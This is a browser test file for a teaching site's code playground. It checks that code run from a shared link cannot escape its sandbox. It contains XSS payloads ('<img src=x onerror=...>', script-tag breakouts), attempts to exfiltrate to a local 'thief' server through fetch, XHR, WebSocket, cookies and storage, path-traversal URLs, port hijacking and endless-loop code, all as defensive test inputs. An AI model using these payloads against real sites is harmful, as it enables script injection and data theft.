import { readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { packCode } from '../src/live/share-link.ts'
import { framePage } from '../src/reader/frame-page.ts'
import { isServed } from '../src/reader/served-address.ts'
import { openEditor, useSite } from './browser.ts'

const site = useSite()
const playground = 'reference/playground/'

/** The code of the function that Run calls; it stays in its lines. */
const program = (code: string): string => `export async function bothScales(options, context) {${code}\n}`

/** Opens a link whose code someone else has written, and presses Run. */
async function runLink(code: string): Promise<{ page: Page; cell: Locator }> {
  const page = await site.open(`${playground}#run=penguins-refined=${await packCode(program(code))}`)
  const cell = page.locator('dlw-run[data-program="penguins-refined"]')
  await page.waitForFunction(() => document.body.textContent!.includes('This code came with the link'))
  await cell.locator('[data-do=run]').click()
  return { page, cell }
}

async function ended(cell: Locator): Promise<string> {
  await cell.page().waitForFunction(
    () => {
      const cell = document.querySelector('dlw-run[data-program="penguins-refined"]')!
      return /^Done|^It did/.test(
        cell.querySelector('[data-part=status]')!.textContent! + cell.querySelector('[data-part=error]')!.textContent!,
      )
    },
    null,
    { timeout: 60_000 },
  )
  return (await cell.locator('[data-part=printed] samp').textContent())!
}

describe('a link with hostile code, run by a reader who trusts it', () => {
  const heard: string[] = []
  let thief: Server
  let address = ''
  beforeAll(async () => {
    thief = createServer(({ url }, response) => {
      heard.push(url!)
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
      response.end('globalThis.stolen = 1')
    })
    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve))
    address = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/`
  })
  afterAll(() => thief.close())

  it('reaches no host, no storage and no address of the site, by any door', async () => {
    const doors = {
      fetch: `fetch('ADDRESS?fetch')`,
      'fetch of the site': `fetch('SITE')`,
      'fetch with a query': `fetch('SITEdata/weather/x.csv?secret')`,
      'fetch up the path': `fetch('SITEdata/weather/../../robots.txt')`,
      'the old fetch': `Object.getPrototypeOf(self).fetch.call(self, new Request('ADDRESS?old'))`,
      XMLHttpRequest: `new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', 'ADDRESS?xhr'); x.onload = ok; x.onerror = no; x.send() })`,
      WebSocket: `new Promise((ok, no) => { const x = new WebSocket('ADDRESS'.replace('http', 'ws')); x.onopen = ok; x.onerror = no })`,
      EventSource: `new Promise((ok, no) => { const x = new EventSource('ADDRESS?events'); x.onopen = ok; x.onerror = no })`,
      importScripts: `Promise.resolve(importScripts('ADDRESS?scripts'))`,
      import: `new Function('a', 'return import(a)')('ADDRESS?import')`,
      'import of text': `new Function('a', 'return import(a)')('data:text/javascript,1')`,
      Worker: `Promise.resolve(new Worker('ADDRESS?worker'))`,
      BroadcastChannel: `Promise.resolve(new BroadcastChannel('x'))`,
      indexedDB: `new Promise((ok, no) => { const x = indexedDB.open('x'); x.onsuccess = ok; x.onerror = no })`,
      caches: `caches.open('x')`,
      'private files': `navigator.storage.getDirectory()`,
      locks: `navigator.locks.request('x', () => {})`,
      localStorage: `Promise.resolve(localStorage.length)`,
      cookies: `cookieStore.getAll()`,
      'the page’s post': `Promise.resolve(postMessage({ type: 'done' }))`,
    }
    const tries = Object.entries(doors).map(
      ([name, code]) =>
        `try { await ${code.replaceAll('ADDRESS', address).replaceAll('SITE', site.url)}; console.log('OPEN: ${name}') } catch { console.log('closed: ${name}') }`,
    )
    const { page, cell } = await runLink(`${tries.join('\n')}\nconsole.log(self.origin)`)
    const printed = await ended(cell)
    expect(printed.split('\n')).toEqual([...Object.keys(doors).map((name) => `closed: ${name}`), 'null'])
    await page.waitForTimeout(300)
    expect(heard).toEqual([])
    await page.context().close()
    // What the browser refuses, it says on the console.
    site.troubles.splice(0)
  })

  const scripted = '<img src=x onerror="document.title=`taken`">'
  const labels = JSON.stringify([
    '"><img src=x onerror="document.title=`taken`">',
    '</svg><script>document.title=`taken`</script>',
  ])

  it.each([
    ['labels of an embedding', `const places = ${labels}.map((label, x) => ({ x, y: x, label }))`, 'places'],
    [
      'classes of a confusion matrix',
      `const refinedMatrix = { classes: ${labels}, counts: [[1, 2], [3, 4]] }\nconst matrix = refinedMatrix`,
      'matrix, refinedMatrix',
    ],
  ])('gets no script into the page by the %s', async (_, code, names) => {
    const { page, cell } = await runLink(`${code}\nreturn { ${names} }`)
    await ended(cell)
    expect(await cell.locator('[data-part=results]').textContent()).toContain('document.title')
    expect(await page.title()).not.toBe('taken')
    expect(await cell.locator('img, script').count()).toBe(0)
    expect(site.troubles.splice(0)).toEqual([])
    await page.context().close()
  })

  it('gets no script into the page by what it says, prints or throws', async () => {
    const { page, cell } = await runLink(
      `context.say('${scripted}')\nconsole.log('${scripted}')\ncontext.backend({ name: '${scripted}', device: '${scripted}', tried: [{ name: '${scripted}', ok: true, reason: '${scripted}', milliseconds: 1 }] })\nthrow new Error('${scripted}')`,
    )
    expect(await ended(cell)).toBe(scripted)
    expect(await cell.locator('[data-part=error]').textContent()).toBe(`It did not work: Line 4: ${scripted}`)
    expect(await page.title()).not.toBe('taken')
    expect(await cell.locator('img').count()).toBe(0)
    expect(site.troubles.splice(0)).toEqual([])
    await page.context().close()
  })

  it('cannot reach the page’s port by what it changes in the language, and does not keep the page busy', async () => {
    const { page, cell } = await runLink(
      `const post = MessagePort.prototype.postMessage
MessagePort.prototype.postMessage = function (...all) { self.port = this; return post.apply(this, all) }
console.log('printed')
await new Promise((resolve) => setTimeout(resolve, 300))
if (self.port) { for (let i = 0; i < 1e6; i++) post.call(self.port, { type: 'say', text: 'x' }) }
console.log(self.port === undefined ? 'no port' : 'port')
const callback = context.training('raw features')
for (let epoch = 0; epoch < 200000; epoch++) callback.onEpochEnd(epoch, { loss: 1 }, { epochs: 200000, model: { countParams: () => 1e9 } })`,
    )
    expect(await ended(cell)).toBe('printed\nno port')
    await page.context().close()
  })

  it('is not kept as the reader’s own code', async () => {
    const { page, cell } = await runLink('console.log(1)')
    await ended(cell)
    await page.waitForTimeout(100)
    expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => key.startsWith('dlw-code')))).toEqual([])
    await page.context().close()
  })
})

describe('code that does not stop by itself', () => {
  it.each([
    ['prints for ever', 'let i = 0\nwhile (true) console.log(i++)'],
    ['computes for ever', 'while (true) {}'],
    ['says for ever', "while (true) context.say('x')"],
    ['posts for ever', 'while (true) { try { postMessage(1) } catch {} }'],
    [
      'grows for ever',
      'let text = "x"\nconst all = []\nwhile (true) { all.push(new Array(1000).fill(1)); if (all.length > 1e5) all.length = 0 }',
    ],
    ['waits for ever', 'const go = () => Promise.resolve().then(go)\nawait go()'],
  ])('is stopped within 200 ms: %s', async (_, code) => {
    const { page, cell } = await runLink(code)
    await page.waitForTimeout(1500)
    const [took, idle] = await page.evaluate(async () => {
      const cell = document.querySelector('dlw-run[data-program="penguins-refined"]')!
      /** How long a click takes until the page shows what came of it, with the tasks that wait already. */
      const timed = async (button: HTMLButtonElement): Promise<number> => {
        const start = performance.now()
        await new Promise((resolve) => setTimeout(resolve))
        button.click()
        await new Promise((resolve) => requestAnimationFrame(resolve))
        return performance.now() - start
      }
      const stop = await timed(cell.querySelector<HTMLButtonElement>('[data-do=stop]')!)
      // The same with nothing running: what this machine takes for it now.
      let idle = 0
      for (let round = 0; round < 5; round++)
        idle = Math.max(idle, await timed(cell.querySelector<HTMLButtonElement>('[data-do=reset]')!))
      return [stop, idle] as const
    })
    await page.waitForFunction(() => document.querySelector('iframe') === null)
    expect(took).toBeLessThan(Math.max(200, 12 * idle))
    expect(await cell.locator('[data-do=run]').isVisible()).toBe(true)
    await page.context().close()
    site.troubles.splice(0)
  })

  it('is stopped in an exercise, too', async () => {
    const code = 'export const neuron = 1\nlet i = 0\nwhile (true) console.log(i++)'
    const page = await site.open(`episodes/01-introduction/#try=introduction/neuron=${await packCode(code)}`)
    const exercise = page.locator('dlw-exercise[data-exercise="introduction/neuron"]')
    await exercise.locator('[data-part=check]').click()
    await page.waitForTimeout(1500)
    await exercise.locator('[data-part=stop]').click()
    expect(await exercise.locator('[data-part=status]').textContent()).toBe('Stopped.')
    expect(await exercise.locator('[data-part=printed] figcaption').textContent()).toMatch(/more lines are not shown/)
    await page.context().close()
  })

  it('ten thousand lines are shown in a moment: a thousand of them, and how many are left out', async () => {
    const { page, cell } = await runLink('for (let line = 0; line < 10_000; line++) console.log(line)')
    const printed = await ended(cell)
    const status = await cell.locator('[data-part=status]').textContent()
    expect(Number(/Done in ([\d.]+) s/.exec(status!)![1])).toBeLessThan(5)
    expect(printed.split('\n')).toHaveLength(1000)
    expect(await cell.locator('[data-part=printed] figcaption').textContent()).toBe('9,000 more lines are not shown.')
    await page.context().close()
  })
})

describe('the reader’s code gets', () => {
  it('the lesson’s data, and weights that it asks the page for', async () => {
    const { page, cell } = await runLink(
      `const response = await fetch('${new URL('data/shapes-base/model.json', site.url).href}')
console.log(response.ok, Object.keys(await response.json()).length > 0)
console.log((await fetch('${new URL('data/shapes-base/none.bin', site.url).href}', { method: 'HEAD' })).status)`,
    )
    expect(await ended(cell)).toBe('true true\n404')
    await page.context().close()
    site.troubles.splice(0)
  })

  it.each([
    ['https://site/base/data/weather/weather.csv', true],
    ['https://site/base/data/weather/weather.csv?x', false],
    ['https://site/base/data/weather/weather.csv#x', false],
    ['https://site/base/data/../secret', false],
    ['https://site/base/data/a/..%2f..', false],
    ['https://site/base/data/a/.htaccess', false],
    ['https://site/base/other/a/b.csv', false],
    ['https://other/base/data/weather/weather.csv', false],
    ['https://site/base/data/a/b/c.csv', false],
    ['https://zenodo.org/record/5071376/files/weather_prediction_dataset_light.csv?download=1', true],
    ['https://zenodo.org/record/5071376/files/other.csv', false],
  ])('no address that could carry something away: %s', (address, served) => {
    expect(isServed(address, 'https://site/base/data/')).toBe(served)
  })
})

describe('the frame of the reader’s code', () => {
  it('does nothing where it has the site’s own origin', async () => {
    const page = await site.open('reader.html')
    const started = await page
      .evaluate(async () => {
        const frame = document.createElement('iframe')
        frame.src = location.href
        document.body.append(frame)
        await new Promise((resolve) => {
          frame.onload = resolve
        })
        const { port1, port2 } = new MessageChannel()
        const heard = new Promise((resolve) => {
          port1.onmessage = () => resolve(true)
          setTimeout(() => resolve(false), 500)
        })
        frame.contentWindow!.postMessage({ boot: 'onmessage = (e) => e.ports[0].postMessage(1)' }, '*', [port2])
        window.postMessage({ boot: 'onmessage = (e) => e.ports[0].postMessage(1)' }, '*', [])
        return heard
      })
      .catch(() => false)
    expect(started).toBe(false)
    await page.context().close()
    site.troubles.splice(0)
  })

  it('has a policy without network', () => {
    expect(framePage()).toMatch(/default-src 'none';.* connect-src data:;/)
    expect(framePage()).not.toMatch(/script-src[^;]*('self'|https?:)/)
  })
})

describe('every page', () => {
  it('has a policy that names its scripts and lets no other run', async () => {
    const page = await site.open('episodes/02-penguins/')
    const ran = await page.evaluate(async () => {
      const found: string[] = []
      const marks = window as unknown as Record<string, unknown>
      const script = document.createElement('script')
      script.textContent = 'window.marked = 1'
      document.body.append(script)
      const holder = document.createElement('div')
      holder.innerHTML = '<img src="data:," onerror="window.marked = 2">'
      document.body.append(holder)
      await new Promise((resolve) => setTimeout(resolve, 200))
      if (marks.marked) found.push(`script: ${marks.marked}`)
      try {
        new Function('return 1')()
        found.push('eval')
      } catch {}
      try {
        await fetch('https://example.com/')
        found.push('fetch')
      } catch {}
      return found
    })
    expect(ran).toEqual([])
    site.troubles.splice(0)
    await page.context().close()
  })

  it('no source of the site makes nodes from text', () => {
    const sources = import.meta.glob<string>('../src/{live,reader,components,figures}/**/*.{ts,astro}', {
      query: '?raw',
      import: 'default',
      eager: true,
    })
    const found = Object.entries(sources).filter(([, text]) =>
      /\.(innerHTML|outerHTML)\b|insertAdjacentHTML|document\.write|createContextualFragment|setHTMLUnsafe/.test(text),
    )
    expect(Object.keys(sources).length).toBeGreaterThan(40)
    expect(found.map(([name]) => name)).toEqual([])
  })
})

describe('what is kept on the device', () => {
  it('code and what it printed are there after a reload', async () => {
    const page = await site.open(playground)
    const cell = page.locator('dlw-run[data-program="penguins-refined"]')
    await cell.locator('[data-do=edit]').dblclick()
    await cell.locator('.cm-content').click()
    expect(await cell.locator('.cm-editor').count()).toBe(1)
    await page.keyboard.press('Control+a')
    await page.keyboard.insertText(program("console.log('mine')"))
    await page.keyboard.press('Control+Enter')
    expect(await ended(cell)).toBe('mine')
    await page.reload()
    await cell.locator('.cm-content').waitFor()
    await page.waitForFunction(() => document.body.textContent!.includes('your code from last time'))
    expect(await cell.locator('.cm-content').textContent()).toContain("console.log('mine')")
    expect(await cell.locator('[data-part=printed] samp').textContent()).toBe('mine')
    await cell.locator('[data-do=original]').click()
    await page.reload()
    await page.waitForTimeout(500)
    expect(await cell.locator('.cm-content').count()).toBe(0)
    expect(site.troubles.splice(0)).toEqual([])
    await page.context().close()
  })

  it('an exercise, too; Tab indents and Escape, then Tab, leaves', async () => {
    const page = await site.open('episodes/01-introduction/')
    const exercise = page.locator('dlw-exercise[data-exercise="introduction/neuron"]')
    await (await openEditor(exercise)).click()
    await page.keyboard.press('Control+a')
    await page.keyboard.insertText(
      readFileSync(new URL('../exercises/introduction/neuron/solution.ts', import.meta.url), 'utf8'),
    )
    await page.keyboard.press('Control+Home')
    await page.keyboard.press('Tab')
    expect(await exercise.locator('.cm-line').first().textContent()).toMatch(/^ {2}export/)
    expect(await exercise.locator('[data-part=status]').textContent()).toContain('Escape, then Tab')
    await page.keyboard.press('Control+Enter')
    await exercise.and(page.locator('[data-passed]')).waitFor()
    await exercise.locator('.cm-content').click()
    await page.keyboard.press('Escape')
    await page.keyboard.press('Tab')
    expect(await page.evaluate(() => document.activeElement!.closest('.cm-editor'))).toBeNull()
    await page.reload()
    await exercise.scrollIntoViewIfNeeded()
    await exercise.locator('.cm-content').waitFor()
    expect(await exercise.locator('.cm-content').textContent()).toContain('weightedSum + bias')
    await page.context().close()
  })

  it('a double click on Run starts one training and does not stop it', async () => {
    const page = await site.open(playground)
    const cell = page.locator('dlw-run[data-program="penguins-refined"]')
    await cell.locator('[data-do=run]').dblclick()
    await page.waitForTimeout(300)
    expect(await cell.locator('[data-part=status]').textContent()).not.toBe('Stopped.')
    await ended(cell)
    expect(site.troubles.splice(0)).toEqual([])
    await page.context().close()
  })

  it('a shared link scrolls to its cell', async () => {
    const page = await site.open(`${playground}#run=siamese=${await packCode('// mine')}`)
    await page.waitForFunction(() => document.body.textContent!.includes('This code came with the link'))
    await page.waitForTimeout(200)
    const top = await page.locator('dlw-run[data-program=siamese]').evaluate((cell) => cell.getBoundingClientRect().top)
    expect(top).toBeGreaterThanOrEqual(0)
    expect(top).toBeLessThan(300)
    await page.context().close()
  })
})
